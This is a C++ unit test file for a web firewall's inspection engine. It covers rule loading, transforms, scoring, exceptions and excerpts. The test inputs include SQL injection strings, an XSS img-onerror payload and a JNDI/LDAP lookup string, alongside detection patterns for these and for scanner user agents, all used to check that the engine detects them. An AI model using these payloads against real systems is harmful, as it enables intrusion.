@@ -1,0 +1,281 @@
+// InspectionEngine end to end: rules in YAML, fields in, verdict/findings out.
+
+#include "detect/engine.h"
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "detect/signature/rule_loader.h"
+
+namespace weir::detect {
+namespace {
+
+using parse::Field;
+using parse::Zone;
+
+std::shared_ptr<const PolicySnapshot> snapshot(const std::string& yaml) {
+  RuleSet rs;
+  load_rules_text(yaml, "test.yaml", rs);
+  return PolicySnapshot::compile(rs);
+}
+
+// No standalone lexical detectors unless a test asks for them.
+const char* kQuietPolicy = R"(
+policy:
+  lexical: {sqli: {enabled: false}, xss: {enabled: false}}
+)";
+
+const char* kRules = R"(rules:
+  - id: sqli-union
+    message: union select
+    class: sqli
+    severity: critical
+    zones: [any]
+    transforms: [url_decode, sql_comment_strip, compress_whitespace]
+    flags: [caseless]
+    patterns: ["union( all)? select"]
+    confirm: sqli
+  - id: sqli-tautology
+    message: quote then or
+    class: sqli
+    severity: critical
+    zones: [query_arg, body_json]
+    transforms: [url_decode]
+    patterns: ["'\\s*or\\s"]
+    flags: [caseless]
+    confirm: sqli
+  - id: ua-scanner
+    message: scanner
+    class: scanner
+    severity: warning
+    zones: [header]
+    names: [user-agent]
+    transforms: [lowercase]
+    patterns: ["sqlmap"]
+  - id: b64-union
+    message: base64 union
+    class: sqli
+    severity: critical
+    zones: [cookie]
+    transforms: [base64_decode, lowercase]
+    patterns: ["union select"]
+)";
+
+InspectionResult run(InspectionEngine& e, const PolicySnapshot& s, std::vector<Field> fields,
+                     std::string_view path = "/api") {
+  return e.inspect(s, fields, InspectionContext{.path = path});
+}
+
+TEST(EngineTest, BlocksConfirmedSqliWithFinding) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  auto r = run(e, *s, {{Zone::QueryArg, "id", "1%27%20OR%201=1--"}});
+  EXPECT_EQ(r.verdict.action, VerdictAction::Reset);
+  ASSERT_EQ(r.findings.size(), 1u);
+  const Finding& f = r.findings[0];
+  EXPECT_EQ(f.rule_id, "sqli-tautology");
+  EXPECT_EQ(f.zone, Zone::QueryArg);
+  EXPECT_EQ(f.field_name, "id");
+  EXPECT_EQ(f.score, 5);
+  EXPECT_EQ(r.score, 5u);
+  EXPECT_NE(f.excerpt_view().find("' OR "), std::string_view::npos);
+}
+
+TEST(EngineTest, LexerRejectsProseThatMatchedAPattern) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  auto r = run(e, *s, {{Zone::BodyJson, "note", "the 'union' select committee"},
+                       {Zone::QueryArg, "q", "Tom' or Jerry"}});
+  EXPECT_EQ(r.verdict.action, VerdictAction::Pass);
+  EXPECT_TRUE(r.findings.empty());
+  EXPECT_EQ(r.stats.unconfirmed, 1u);  // "' or " matched, the lexer said no ("Jerry" alone)
+}
+
+TEST(EngineTest, MatchesNeverSpanTwoFields) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  auto split = run(e, *s, {{Zone::QueryArg, "a", "1 union"}, {Zone::QueryArg, "b", " select 1,2"}});
+  EXPECT_TRUE(split.findings.empty());
+  auto joined = run(e, *s, {{Zone::QueryArg, "a", "1 union select 1,2"}});
+  EXPECT_EQ(joined.findings.size(), 1u);
+}
+
+TEST(EngineTest, ZoneAndNameFilters) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  EXPECT_TRUE(run(e, *s, {{Zone::QueryArg, "ua", "sqlmap/1.7"}}).findings.empty());
+  EXPECT_TRUE(run(e, *s, {{Zone::Header, "referer", "sqlmap/1.7"}}).findings.empty());
+  auto r = run(e, *s, {{Zone::Header, "user-agent", "SQLMap/1.7"}});
+  ASSERT_EQ(r.findings.size(), 1u);
+  EXPECT_EQ(r.findings[0].rule_id, "ua-scanner");
+  EXPECT_EQ(r.verdict.action, VerdictAction::Pass);  // 3 < threshold 5
+  // Tautology is not enabled for cookies.
+  EXPECT_TRUE(run(e, *s, {{Zone::Cookie, "c", "x' or 1=1--"}}).findings.empty());
+}
+
+TEST(EngineTest, ScoresAddUpToTheThreshold) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  auto r = run(e, *s, {{Zone::Header, "user-agent", "sqlmap"}}, "/x");
+  EXPECT_EQ(r.verdict.action, VerdictAction::Pass);
+  auto carried = e.inspect(*s, std::vector<Field>{{Zone::Header, "user-agent", "sqlmap"}},
+                           InspectionContext{.path = "/x", .carried_score = 3});
+  EXPECT_EQ(carried.score, 6u);
+  EXPECT_EQ(carried.verdict.action, VerdictAction::Reset);
+}
+
+TEST(EngineTest, Base64ChainOnlyScansCleanBase64) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy);
+  InspectionEngine e;
+  // base64 of "1 UNION SELECT 1,2"
+  auto r = run(e, *s, {{Zone::Cookie, "prefs", "MSBVTklPTiBTRUxFQ1QgMSwy"}});
+  ASSERT_EQ(r.findings.size(), 1u);
+  EXPECT_EQ(r.findings[0].rule_id, "b64-union");
+  EXPECT_EQ(r.findings[0].excerpt_view(), "1 union select 1,2");  // decoded, lower case
+  EXPECT_FALSE(r.findings[0].excerpt_truncated);
+  // Not base64: the base64 group does not scan it, the raw-chain rule does.
+  auto plain = run(e, *s, {{Zone::Cookie, "prefs", "1 union select 1,2"}});
+  ASSERT_EQ(plain.findings.size(), 1u);
+  EXPECT_EQ(plain.findings[0].rule_id, "sqli-union");
+}
+
+TEST(EngineTest, EachChainComputedOncePerField) {
+  auto s = snapshot(R"(rules:
+  - {id: a, message: m, class: other, severity: notice, zones: [any], transforms: [url_decode], patterns: [zzz1]}
+  - {id: b, message: m, class: other, severity: notice, zones: [any], transforms: [url_decode, lowercase], patterns: [zzz2]}
+  - {id: c, message: m, class: other, severity: notice, zones: [any], transforms: [url_decode, lowercase, remove_nulls], patterns: [zzz3]}
+)" + std::string(kQuietPolicy));
+  InspectionEngine e;
+  auto r = run(e, *s, {{Zone::QueryArg, "q", "A%41"}});
+  EXPECT_EQ(r.stats.transforms, 3u);  // url_decode, lowercase, remove_nulls: once each
+  // url_decode changes the value, lowercase too, remove_nulls does not: 2 distinct values.
+  EXPECT_EQ(r.stats.scans, 2u);
+  auto plain = run(e, *s, {{Zone::QueryArg, "q", "plain"}});
+  EXPECT_EQ(plain.stats.scans, 1u);  // every chain left it unchanged: one combined scan
+}
+
+TEST(EngineTest, ModesAndActions) {
+  std::string rules = R"(rules:
+  - {id: blk, message: m, class: jndi, severity: notice, zones: [any], patterns: ["\\$\\{jndi:"], action: block}
+  - {id: alr, message: m, class: scanner, severity: critical, zones: [any], patterns: [nikto], action: alert}
+)";
+  auto block = snapshot(rules + R"(policy:
+  block_action: block
+  block: {scope: session, ttl_s: 120}
+  lexical: {sqli: {enabled: false}, xss: {enabled: false}}
+)");
+  InspectionEngine e;
+  auto r = run(e, *block, {{Zone::Header, "x-api-version", "${jndi:ldap://198.18.0.1/a}"}});
+  EXPECT_EQ(r.verdict.action, VerdictAction::Block);
+  EXPECT_EQ(r.verdict.scope, BlockScope::Session);
+  EXPECT_EQ(r.verdict.ttl_s, 120u);
+  auto a = run(e, *block, {{Zone::Header, "user-agent", "nikto"}});
+  EXPECT_EQ(a.verdict.action, VerdictAction::Alert);
+  EXPECT_EQ(a.score, 0u);
+  auto monitor = snapshot(rules + R"(policy:
+  mode: monitor
+  lexical: {sqli: {enabled: false}, xss: {enabled: false}}
+)");
+  auto m = run(e, *monitor, {{Zone::Header, "x", "${jndi:ldap://198.18.0.1/a}"}});
+  EXPECT_EQ(m.verdict.action, VerdictAction::Alert);
+  EXPECT_FALSE(m.verdict.stops_traffic());
+}
+
+TEST(EngineTest, ExceptionsByEndpointZoneNameAndRule) {
+  auto s = snapshot(std::string(kRules) + kQuietPolicy + R"(
+exceptions:
+  - id: search
+    endpoint: {prefix: /api/search}
+    zones: [query_arg]
+    names: [q]
+    rules: [sqli-tautology]
+  - id: legacy
+    endpoint: {regex: "^/legacy/v[0-9]+/"}
+    classes: [sqli]
+)");
+  InspectionEngine e;
+  std::vector<Field> attack = {{Zone::QueryArg, "q", "x' or 1=1--"}};
+  auto r = e.inspect(*s, attack, {.path = "/api/search"});
+  EXPECT_TRUE(r.findings.empty());
+  EXPECT_EQ(r.stats.excepted, 1u);
+  EXPECT_EQ(r.verdict.action, VerdictAction::Pass);
+  EXPECT_EQ(e.inspect(*s, attack, {.path = "/api/orders"}).verdict.action, VerdictAction::Reset);
+  std::vector<Field> other_name = {{Zone::QueryArg, "sort", "x' or 1=1--"}};
+  EXPECT_EQ(e.inspect(*s, other_name, {.path = "/api/search"}).verdict.action,
+            VerdictAction::Reset);
+  EXPECT_EQ(e.inspect(*s, other_name, {.path = "/legacy/v2/items"}).verdict.action,
+            VerdictAction::Pass);
+  EXPECT_EQ(e.inspect(*s, other_name, {.path = "/legacy/x/items"}).verdict.action,
+            VerdictAction::Reset);
+}
+
+TEST(EngineTest, StandaloneLexicalDetectors) {
+  auto s = snapshot("policy:\n  paranoia: 1\n");
+  InspectionEngine e;
+  auto r = run(e, *s, {{Zone::BodyJson, "user.name", "admin'--"},
+                       {Zone::BodyJson, "bio", "<img src=x onerror=alert(1)>"},
+                       {Zone::BodyJson, "last", "O'Brien"}});
+  ASSERT_EQ(r.findings.size(), 2u);
+  EXPECT_EQ(r.findings[0].rule_id, "lexical-sqli");
+  EXPECT_EQ(r.findings[1].rule_id, "lexical-xss");
+  EXPECT_EQ(r.verdict.action, VerdictAction::Reset);
+  // Zones outside the detectors' defaults are not read.
+  EXPECT_TRUE(run(e, *s, {{Zone::Header, "x", "admin'--"}}).findings.empty());
+}
+
+TEST(EngineTest, ParanoiaSelectsRules) {
+  std::string rules = R"(rules:
+  - {id: p2, message: m, class: other, severity: critical, paranoia: 2, zones: [any], patterns: [evilword]}
+)";
+  InspectionEngine e;
+  auto pl1 = snapshot(rules + kQuietPolicy);
+  EXPECT_TRUE(run(e, *pl1, {{Zone::QueryArg, "a", "evilword"}}).findings.empty());
+  auto pl2 = snapshot(rules + "policy:\n  paranoia: 2\n  lexical: {sqli: {enabled: false}, xss: {enabled: false}}\n");
+  EXPECT_EQ(run(e, *pl2, {{Zone::QueryArg, "a", "evilword"}}).findings.size(), 1u);
+}
+
+TEST(EngineTest, FindingBufferCapStillScores) {
+  auto s = snapshot(R"(rules:
+  - {id: a, message: m, class: other, severity: notice, zones: [any], patterns: [aaa]}
+)" + std::string(kQuietPolicy));
+  InspectionEngine e(EngineLimits{.arena_bytes = 4096, .max_findings = 2});
+  auto r = run(e, *s, {{Zone::QueryArg, "1", "aaa"}, {Zone::QueryArg, "2", "aaa"},
+                       {Zone::QueryArg, "3", "aaa"}});
+  EXPECT_EQ(r.findings.size(), 2u);
+  EXPECT_EQ(r.stats.findings_dropped, 1u);
+  EXPECT_EQ(r.score, 6u);
+}
+
+TEST(EngineTest, ExcerptIsAWindowAroundTheMatch) {
+  auto s = snapshot(R"(rules:
+  - {id: a, message: m, class: other, severity: notice, zones: [any], patterns: [NEEDLE]}
+)" + std::string(kQuietPolicy));
+  InspectionEngine e;
+  std::string v = std::string(200, 'x') + "NEEDLE" + std::string(200, 'y');
+  auto r = run(e, *s, {{Zone::BodyRaw, "", v}});
+  ASSERT_EQ(r.findings.size(), 1u);
+  std::string_view ex = r.findings[0].excerpt_view();
+  EXPECT_LE(ex.size(), Finding::kExcerptMax);
+  EXPECT_NE(ex.find("NEEDLE"), std::string_view::npos);
+  EXPECT_TRUE(r.findings[0].excerpt_truncated);
+}
+
+TEST(EngineTest, NewSnapshotIsBoundOnFirstUse) {
+  InspectionEngine e;
+  auto s1 = snapshot(R"(rules:
+  - {id: a, message: m, class: other, severity: critical, zones: [any], patterns: [first]}
+)" + std::string(kQuietPolicy));
+  auto s2 = snapshot(R"(rules:
+  - {id: b, message: m, class: other, severity: critical, zones: [any], patterns: [second]}
+  - {id: c, message: m, class: other, severity: critical, zones: [any], transforms: [lowercase], patterns: [third]}
+)" + std::string(kQuietPolicy));
+  EXPECT_EQ(run(e, *s1, {{Zone::QueryArg, "a", "first"}}).findings.size(), 1u);
+  auto r = run(e, *s2, {{Zone::QueryArg, "a", "second THIRD"}});
+  EXPECT_EQ(r.findings.size(), 2u);
+  EXPECT_EQ(run(e, *s1, {{Zone::QueryArg, "a", "second"}}).findings.size(), 0u);
+}
+
+}  // namespace
+}  // namespace weir::detect
